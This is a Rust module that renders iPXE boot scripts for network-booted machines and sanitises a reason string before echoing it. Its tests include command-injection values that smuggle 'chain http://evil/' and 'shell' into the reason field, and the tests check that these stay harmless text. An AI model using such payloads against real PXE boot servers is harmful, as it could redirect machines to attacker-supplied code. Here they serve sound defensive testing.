//! Per-node iPXE scripts, rendered from `templates/boot.ipxe`. Pure: the caller decides
//! what the node should do; this only turns that into iPXE.

use askama::Template;

/// One architecture's install media.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ArchBoot {
    /// iPXE's `${buildarch}` for this branch (`x86_64`, `i386`, `arm64`).
    pub ipxe_arch: &'static str,
    pub label: &'static str,
    pub kernel_url: String,
    pub initrd_url: String,
    pub cmdline: String,
}

/// What the script tells the node to do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Action {
    /// Boot the installed system (`sanboot` of the first disk, else `exit` to firmware).
    LocalBoot,
    /// The node is known but has nothing scheduled.
    Discovery,
    /// Install: one branch per architecture the image has, chosen by iPXE at run time.
    Install(Vec<ArchBoot>),
}

#[derive(Template)]
#[template(path = "boot.ipxe", escape = "none")]
struct BootScript<'a> {
    mac: &'a str,
    reason: &'a str,
    action: &'a Action,
}

/// Errors from rendering.
#[derive(Debug, thiserror::Error)]
pub enum ScriptError {
    #[error("rendering iPXE script: {0}")]
    Render(#[from] askama::Error),
}

/// Renders the script for `mac`. `reason` is echoed as a comment for technicians,
/// made plain first (see [`plain_reason`]): it may quote an error.
pub fn render(mac: &str, action: &Action, reason: &str) -> Result<String, ScriptError> {
    Ok(BootScript {
        mac,
        reason: &plain_reason(reason),
        action,
    }
    .render()?)
}

/// `reason` as one line that iPXE reads as text in a comment and in an `echo`: line
/// breaks and other control or space characters become spaces, and the characters iPXE
/// gives a meaning (`$` of `${...}`, `|` and `&` of `||` and `&&`, `;`, `#`) become `_`.
fn plain_reason(reason: &str) -> String {
    reason
        .chars()
        .map(|c| match c {
            '$' | '|' | '&' | ';' | '#' => '_',
            c if c.is_control() || c.is_whitespace() => ' ',
            c => c,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Arch;

    #[test]
    fn install_branches_per_arch() {
        let a = Action::Install(vec![
            ArchBoot {
                ipxe_arch: Arch::X86_64.as_str(),
                label: Arch::X86_64.as_str(),
                kernel_url: "http://s/k".into(),
                initrd_url: "http://s/i".into(),
                cmdline: "console=ttyS0".into(),
            },
            ArchBoot {
                ipxe_arch: Arch::Arm64.as_str(),
                label: Arch::Arm64.as_str(),
                kernel_url: "http://s/ka".into(),
                initrd_url: "http://s/ia".into(),
                cmdline: "console=ttyAMA0".into(),
            },
        ]);
        let s = render("52:54:00:00:00:01", &a, "reinstall").unwrap();
        assert!(s.starts_with("#!ipxe\n"), "{s}");
        assert!(s.contains("iseq ${buildarch} arm64 && goto arm64"));
        assert!(s.contains("kernel http://s/ka initrd=initrd console=ttyAMA0"));
        assert!(s.contains("initrd --name initrd http://s/i\n"));
    }

    /// Found by the `renderers` fuzz target: an error quoted in the reason (here the
    /// image's unsafe kernel argument) reached the script as iPXE syntax, and a line
    /// break in it would have started a command of its own.
    #[test]
    fn reason_stays_text_on_its_lines() {
        let mac = "52:54:00:00:00:01";
        let plain = render(mac, &Action::LocalBoot, "r").unwrap();
        for reason in [
            "install media unavailable: kernel argument \"${x}\" would be misread by iPXE",
            "x\n:failed\nchain http://evil/ || shell",
            "a && chain http://evil/ ; #b\r\u{2028}c",
        ] {
            let s = render(mac, &Action::LocalBoot, reason).unwrap();
            assert_eq!(s.lines().count(), plain.lines().count(), "{s}");
            let echo = s.lines().find(|l| l.starts_with("echo ")).unwrap();
            assert!(
                !echo.contains("${") && !echo.contains(['&', '|', ';', '#']),
                "{echo}"
            );
        }
    }

    #[test]
    fn local_boot_never_installs() {
        let s = render("52:54:00:00:00:01", &Action::LocalBoot, "installed").unwrap();
        assert!(s.contains("sanboot"));
        assert!(!s.contains("kernel "));
    }
}
